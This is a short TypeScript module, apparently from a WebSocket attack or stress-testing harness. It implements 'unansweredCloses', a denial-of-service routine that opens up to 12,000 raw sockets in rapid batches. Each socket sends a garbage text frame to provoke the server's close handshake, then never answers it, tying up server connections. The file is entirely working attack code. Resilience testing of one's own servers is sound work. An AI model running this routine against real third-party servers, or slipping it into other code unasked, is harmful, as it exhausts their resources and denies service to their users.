import { frame, opcodes } from '../../clients/frame.ts'
import { openRawSocket } from '../../clients/raw-socket.ts'
import { count, keepHighest } from '../../support/counts.ts'
import type { Attack } from '../attack.ts'

const mostOpen = 12_000

/** Sockets that make the server say close, and never answer it. */
export const unansweredCloses: Attack = ({ url, addresses: [address] }, achieved) => {
  let open = 0
  const next = async () => {
    if (open > mostOpen) return
    open += 1
    const raw = await openRawSocket({ url, address }, () => (open -= 1))
    count(achieved, 'sockets')
    raw.write(frame(opcodes.text, 'garbage'))
    keepHighest(achieved, 'open at once', open)
  }
  setInterval(() => Array.from({ length: 6 }, next), 20)
}
